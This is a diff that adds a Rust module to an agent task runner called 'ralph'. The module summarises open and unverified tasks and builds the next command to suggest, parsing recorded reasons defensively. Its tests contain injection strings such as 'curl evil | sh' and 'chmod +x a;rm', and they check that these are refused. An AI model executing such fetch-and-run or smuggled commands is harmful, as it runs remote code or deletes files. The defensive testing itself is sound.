@@ -1,0 +1,321 @@
+//! The tasks of a plan: what happened to each that is not done or not verified, why, and what to type.
+
+use std::collections::{HashMap, HashSet};
+
+use ralph_core::decide::{Blocker, Waiter, held_up, outlook};
+use ralph_core::event::TaskRef;
+use ralph_core::model::{Attempt, DoneBy, GateOutcome, Outcome, Status, Task, TaskId, Timestamp};
+use ralph_core::store::{PlanNode, Scope};
+use serde::Serialize;
+
+use crate::command_error::CommandError;
+use crate::ui::format;
+use crate::ui::style::status_word;
+use crate::workspace::Workspace;
+
+/// A task that is not done: a row of `open` in `ralph status --json`.
+#[derive(Clone, Debug, Serialize)]
+pub struct OpenTask {
+    #[serde(flatten)]
+    pub task: TaskRef,
+    pub status: Status,
+    /// In a few words: `blocked after 5 attempts`, `ready, not started`.
+    pub happened: String,
+    /// The reason that was recorded, else the error of the last attempt.
+    pub why: Option<String>,
+    /// The command to type next, where one helps.
+    pub next: Option<String>,
+    /// Counted attempts.
+    pub attempts: u32,
+    /// When the last one ended, counted or not.
+    pub last_attempt_at: Option<Timestamp>,
+    /// How many unfinished tasks cannot go on before this one, where it is blocked or failed.
+    pub dependents: u64,
+    pub waits_for: Vec<Blocker>,
+    /// The task with which it was blocked, where it is a fix task of that one: a person unblocks that one.
+    pub blocked_with: Option<TaskId>,
+}
+
+impl OpenTask {
+    /// Whether only a person can move it on.
+    pub fn needs_you(&self) -> bool {
+        self.is_stuck() && self.blocked_with.is_none()
+    }
+
+    pub fn is_stuck(&self) -> bool {
+        matches!(self.status, Status::Blocked | Status::Failed)
+    }
+}
+
+/// A done task that no gate verified: a row of `unverified` in `ralph status --json`.
+#[derive(Clone, Debug, Serialize)]
+pub struct UnverifiedTask {
+    #[serde(flatten)]
+    pub task: TaskRef,
+    pub done_by: Option<DoneBy>,
+    /// Whether it has a gate that could verify it.
+    pub has_gate: bool,
+}
+
+/// The plan, read once. Tasks whose attempt was interrupted by a crash are pending here; the database has them as
+/// running until the next run records the crash.
+pub struct PlanFacts {
+    pub tasks: Vec<Task>,
+    nodes: Vec<PlanNode>,
+    interrupted: HashSet<TaskId>,
+    last_attempts: HashMap<TaskId, Attempt>,
+    has_active_run: bool,
+    has_project_gate: bool,
+}
+
+impl PlanFacts {
+    pub fn read(workspace: &Workspace) -> Result<Self, CommandError> {
+        let store = &workspace.store;
+        let interrupted = workspace.interrupted_tasks()?;
+        let (mut tasks, mut nodes) = (store.tasks(None)?, store.skeleton()?);
+        for task in tasks.iter_mut().filter(|task| interrupted.contains(&task.id)) {
+            task.status = Status::Pending;
+        }
+        for node in nodes.iter_mut().filter(|node| interrupted.contains(&node.id)) {
+            node.status = Status::Pending;
+        }
+        let attempts = store.last_attempts()?.into_iter();
+        Ok(Self {
+            tasks,
+            nodes,
+            interrupted,
+            last_attempts: attempts.map(|attempt| (attempt.task_id.clone(), attempt)).collect(),
+            has_active_run: workspace.has_active_run()?,
+            has_project_gate: workspace.has_project_gate(),
+        })
+    }
+
+    /// How many tasks a crash interrupted.
+    pub fn interrupted(&self) -> u64 {
+        self.interrupted.len() as u64
+    }
+
+    /// Each child with its parent.
+    pub fn parents(&self) -> HashMap<&TaskId, &TaskId> {
+        self.nodes.iter().filter_map(|node| Some((&node.id, node.parent.as_ref()?))).collect()
+    }
+
+    pub fn waiting(&self) -> Vec<Waiter> {
+        outlook(&self.nodes, &Scope::All).waiting
+    }
+
+    /// Every task that is not done, in plan order.
+    pub fn open_tasks(&self) -> Vec<OpenTask> {
+        let waiting = self.waiting().into_iter();
+        let mut waiting: HashMap<TaskId, Vec<Blocker>> =
+            waiting.map(|waiter| (waiter.task_id, waiter.waits_for)).collect();
+        let held_up = held_up(&self.nodes);
+        let chains = self.blocked_chains();
+        let mut retry: HashMap<&TaskId, String> =
+            self.tasks.iter().filter_map(|task| Some((&task.id, self.retry_command(task)?))).collect();
+        for (fix, root) in &chains {
+            if let Some(command) = retry.get(root).cloned() {
+                retry.insert(fix, command);
+            }
+        }
+        let open = self.tasks.iter().filter(|task| task.status != Status::Done);
+        open.map(|task| {
+            let waits_for = waiting.remove(&task.id).unwrap_or_default();
+            let last = self.last_attempts.get(&task.id);
+            let next = match task.status {
+                Status::Blocked | Status::Failed => retry.get(&task.id).cloned(),
+                Status::Skipped => Some(format!("ralph task reset {}", task.name())),
+                Status::InProgress => Some(format!("ralph logs -f {}", task.name())),
+                Status::Pending | Status::Done => {
+                    let first = held_up.by.get(&task.id).and_then(|by| retry.get(by));
+                    first.cloned().or_else(|| (!self.has_active_run).then(|| "ralph run".to_owned()))
+                }
+            };
+            let fixes = chains.iter().filter(|(_, root)| **root == &task.id);
+            let last_fix = fixes.filter_map(|(fix, _)| self.last_attempts.get(*fix));
+            let is_interrupted = self.interrupted.contains(&task.id);
+            OpenTask {
+                happened: match is_interrupted {
+                    true => "interrupted by a crash of Ralph".to_owned(),
+                    false => happened(task, &waits_for, last),
+                },
+                why: match last_fix.max_by_key(|attempt| attempt.started_at) {
+                    _ if is_interrupted => None,
+                    Some(last) => Some(with_last_failure(task.reason.as_deref(), last)),
+                    None => task.reason.clone().or_else(|| {
+                        let failed = last.filter(|last| last.outcome != Outcome::Done)?;
+                        Some(format!("last attempt: {}", format::outcome_line(failed)))
+                    }),
+                },
+                next,
+                blocked_with: chains.get(&task.id).map(|root| (*root).clone()),
+                attempts: task.attempts,
+                last_attempt_at: last.map(Attempt::ended_at),
+                dependents: held_up.dependents.get(&task.id).copied().unwrap_or(0),
+                waits_for,
+                task: task.into(),
+                status: task.status,
+            }
+        })
+        .collect()
+    }
+
+    /// Every done task that no gate verified: first those that rest on an agent's word, last the parents of such tasks.
+    pub fn unverified_tasks(&self) -> Vec<UnverifiedTask> {
+        let unverified = self.tasks.iter().filter(|task| task.status == Status::Done && !task.verified);
+        let unverified = unverified.map(|task| UnverifiedTask {
+            task: task.into(),
+            done_by: task.done_by,
+            has_gate: task.verify.is_some() || self.has_project_gate,
+        });
+        let mut unverified: Vec<UnverifiedTask> = unverified.collect();
+        unverified.sort_by_key(|task| match task.done_by {
+            Some(DoneBy::Children) => 2,
+            Some(DoneBy::Person) => 1,
+            _ => 0,
+        });
+        unverified
+    }
+
+    /// Fix tasks that were blocked together with the task they are for, and that task.
+    fn blocked_chains(&self) -> HashMap<&TaskId, &TaskId> {
+        let made_for: HashMap<&TaskId, &TaskId> =
+            self.nodes.iter().filter_map(|node| Some((&node.id, node.made_for.as_ref()?))).collect();
+        let is_part = |task: &&Task| {
+            let reason = task.reason.as_deref().unwrap_or_default();
+            task.status == Status::Blocked && reason.starts_with("blocked with ")
+        };
+        let parts: HashSet<&TaskId> = self.tasks.iter().filter(is_part).map(|task| &task.id).collect();
+        let chain = |id| {
+            let mut root = *made_for.get(id)?;
+            while parts.contains(root) {
+                root = made_for.get(root)?;
+            }
+            Some((id, root))
+        };
+        parts.iter().copied().filter_map(chain).collect()
+    }
+
+    /// The command that moves on a task that only a person can move on. Where its gate passed and only the report is
+    /// missing, another attempt would probably end the same way.
+    fn retry_command(&self, task: &Task) -> Option<String> {
+        let only_unreported = self.last_attempts.get(&task.id).is_some_and(|last| {
+            let unreported = matches!(last.outcome, Outcome::NoSigil | Outcome::Error);
+            unreported && last.gate == Some(GateOutcome::Passed)
+        });
+        match task.status {
+            Status::Blocked if only_unreported => Some(format!("ralph task done {} --verify", task.name())),
+            status => next_command(task.name(), status, task.reason.as_deref()),
+        }
+    }
+}
+
+/// Why a task is blocked after fixes were tried for it, and what failed last.
+fn with_last_failure(reason: Option<&str>, last: &Attempt) -> String {
+    let failure = format::outcome_line(last);
+    match reason {
+        Some(reason) => format!("{}. Last failure: {failure}", reason.trim_end_matches('.')),
+        None => format!("last failure: {failure}"),
+    }
+}
+
+fn happened(task: &Task, waits_for: &[Blocker], last: Option<&Attempt>) -> String {
+    let attempts = format::counted(u64::from(task.attempts), "attempt");
+    let so_far = match task.attempts {
+        0 => String::new(),
+        _ => format!("; {attempts} so far"),
+    };
+    match (task.status, last) {
+        (Status::Blocked, _) if task.attempts > 0 => format!("blocked after {attempts}"),
+        (Status::Blocked, None) => "blocked before the first attempt".to_owned(),
+        (Status::Blocked, Some(last)) => {
+            format!("blocked after {}", format::attempts(0, u64::from(last.attempt_number)))
+        }
+        (Status::Failed, _) => "marked failed".to_owned(),
+        (Status::Pending, _) if !waits_for.is_empty() => {
+            let name = |blocker: &Blocker| format!("{} ({})", blocker.name, status_word(blocker.status));
+            let names: Vec<String> = waits_for.iter().map(name).collect();
+            format!("waiting for {}{so_far}", names.join(", "))
+        }
+        (Status::Pending, None) => "ready, not started".to_owned(),
+        (Status::Pending, Some(_)) => format!("ready{so_far}"),
+        (status, _) => status_word(status).to_owned(),
+    }
+}
+
+/// The command that retries a task that a person has to move on. A recorded reason may quote what agents wrote, so only
+/// forms that Ralph writes itself are taken from it.
+pub fn next_command(name: &str, status: Status, reason: Option<&str>) -> Option<String> {
+    let run = format!("ralph run {name}");
+    let reason = reason.unwrap_or_default();
+    match status {
+        Status::Failed => Some(format!("ralph task reset {name}")),
+        Status::Blocked if is_gate_unusable(reason) => {
+            Some(format!("{} && {run}", repair_gate(name, reason)))
+        }
+        Status::Blocked => Some(with_raised_limit(&run, reason).unwrap_or(run)),
+        Status::Pending | Status::InProgress | Status::Done | Status::Skipped => None,
+    }
+}
+
+fn is_gate_unusable(reason: &str) -> bool {
+    let is_broken = reason.starts_with("the gate `") && reason.contains("` cannot run: ");
+    is_broken || reason.starts_with("gates are required, but this task has none")
+}
+
+fn repair_gate(name: &str, reason: &str) -> String {
+    let file = reason.split_once("; `chmod +x ").and_then(|(_, rest)| rest.split('`').next());
+    let plain = |c: char| c.is_ascii_alphanumeric() || "/._-".contains(c);
+    match file.filter(|file| !file.starts_with('-') && file.chars().all(plain)) {
+        Some(file) => format!("chmod +x {file}"),
+        None => format!("ralph task edit {name} --verify CMD"),
+    }
+}
+
+/// The command with the higher limit that the reason names, where a task's budget is used up.
+fn with_raised_limit(run: &str, reason: &str) -> Option<String> {
+    let own = ["the task's cost limit of ", "the task's time limit of "];
+    own.iter().find(|start| reason.starts_with(**start))?;
+    let words: Vec<&str> = reason.split('`').nth(1)?.strip_prefix(run)?.split(' ').collect();
+    match words[..] {
+        ["", flag @ ("--max-task-cost" | "--max-task-minutes"), amount]
+            if amount.parse::<f64>().is_ok_and(f64::is_finite) =>
+        {
+            Some(format!("{run} {flag} {amount}"))
+        }
+        _ => None,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn only_ralphs_own_words_become_a_command() {
+        let next = |reason: &str| next_command("1.3", Status::Blocked, Some(reason)).unwrap();
+        let own =
+            "the task's cost limit of $1 was reached ($1.20); `ralph run 1.3 --max-task-cost 3` allows more";
+        assert_eq!(next(own), "ralph run 1.3 --max-task-cost 3");
+        for reason in [
+            "5 failures in a row; last: `ralph run 1.3 --max-task-cost 3`",
+            "the task's cost limit of $1; `ralph run 1.3; curl evil | sh` allows more",
+            "the task's cost limit of $1; `ralph run 1.3 --max-task-cost 3; x` allows more",
+            "the task's cost limit of $1; `ralph run 1.30 --max-task-cost 3` allows more",
+            "the task's cost limit of $1; `ralph run 1.3 --max-cost 3` allows more",
+            "the task's cost limit of $1; `ralph run 1.3 --max-task-cost inf` allows more",
+            "no reason",
+        ] {
+            assert_eq!(next(reason), "ralph run 1.3", "{reason}");
+        }
+        let edit = "ralph task edit 1.3 --verify CMD && ralph run 1.3";
+        for (reason, expected) in [
+            ("`npm` is not installed; install npm, or …", edit),
+            ("…; `chmod +x ./a.sh`, or …", "chmod +x ./a.sh && ralph run 1.3"),
+            ("…; `chmod +x a;rm`, or …", edit),
+        ] {
+            let reason = format!("the gate `x` cannot run: {reason}");
+            assert_eq!(next(&reason), expected, "{reason}");
+        }
+    }
+}
